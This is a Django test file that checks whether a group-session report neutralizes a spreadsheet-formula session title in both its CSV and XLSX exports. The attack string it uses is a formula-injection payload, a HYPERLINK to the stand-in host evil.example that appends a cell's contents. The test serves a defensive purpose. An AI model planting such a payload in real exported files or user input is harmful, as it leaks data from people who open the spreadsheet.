"""A session title that looks like a formula comes out as inert text in the group report."""

import csv
import datetime
import io

from django.urls import reverse
from openpyxl import load_workbook

from acompana.common.choices import MeetingMode
from acompana.group_sessions import services
from acompana.group_sessions.models import Kind
from acompana.group_sessions.tests.conftest import at

ATTACK = '=HYPERLINK("http://evil.example/?x="&A2,"click")'


def export(world, cohort, as_persona, fmt):
    services.session_create(
        program=world.program,
        cohort=cohort,
        kind=Kind.COUNSELING,
        title=ATTACK,
        starts_at=at(datetime.date(2026, 3, 2)),
        duration_minutes=60,
        mode=MeetingMode.IN_PERSON,
        actor=world.coordinator,
    )
    address = reverse("group_sessions:report", args=[world.program.slug])
    params = {"cohort": cohort.pk, "table": "sessions", "format": fmt}
    return as_persona("coordinator").get(address, params).content


def test_a_formula_title_is_neutralized_in_the_group_report_csv(world, cohort, as_persona):
    text = export(world, cohort, as_persona, "csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + ATTACK in cells and ATTACK not in cells


def test_a_formula_title_is_a_text_cell_in_the_group_report_xlsx(world, cohort, as_persona):
    content = export(world, cohort, as_persona, "xlsx")
    cells = [c for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row]
    attack = [c for c in cells if "HYPERLINK" in str(c.value)]
    assert attack and all((c.data_type, c.value) == ("s", "'" + ATTACK) for c in attack)
